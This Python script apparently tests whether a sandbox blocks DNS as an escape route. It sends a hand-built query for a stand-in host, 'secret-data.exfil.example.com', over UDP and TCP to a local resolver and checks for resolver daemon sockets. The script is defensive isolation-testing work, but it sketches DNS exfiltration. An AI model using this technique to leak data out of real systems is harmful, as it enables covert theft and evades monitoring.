# Resolve names: the usual exit when everything else is closed.
import os
import socket
import struct
import time

NAME = "secret-data.exfil.example.com"
question = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
question += b"".join(bytes([len(p)]) + p.encode() for p in NAME.split(".")) + b"\0\0\1\0\1"


def resolve():
    return socket.getaddrinfo(NAME, 80)[0][4]


def over_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(seconds(1))
        peer.sendto(question, ("127.0.0.1", 53))
        return len(peer.recv(512))


def over_tcp():
    with socket.create_connection(("127.0.0.1", 53), timeout=seconds(1)) as peer:
        peer.sendall(struct.pack(">H", len(question)) + question)
        return len(peer.recv(512))


def daemon():
    for path in ("/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve", "/run/dbus/system_bus_socket",
                 "/var/run/nscd/socket"):
        if os.path.exists(path):
            return path
    return None


begin = time.monotonic()
attempt("getaddrinfo", resolve)
attempt("udp", over_udp)
attempt("tcp", over_tcp)
attempt("daemon", daemon)
if time.monotonic() - begin > seconds(2):
    escaped("slow", f"names took {time.monotonic() - begin:.1f} s to fail")
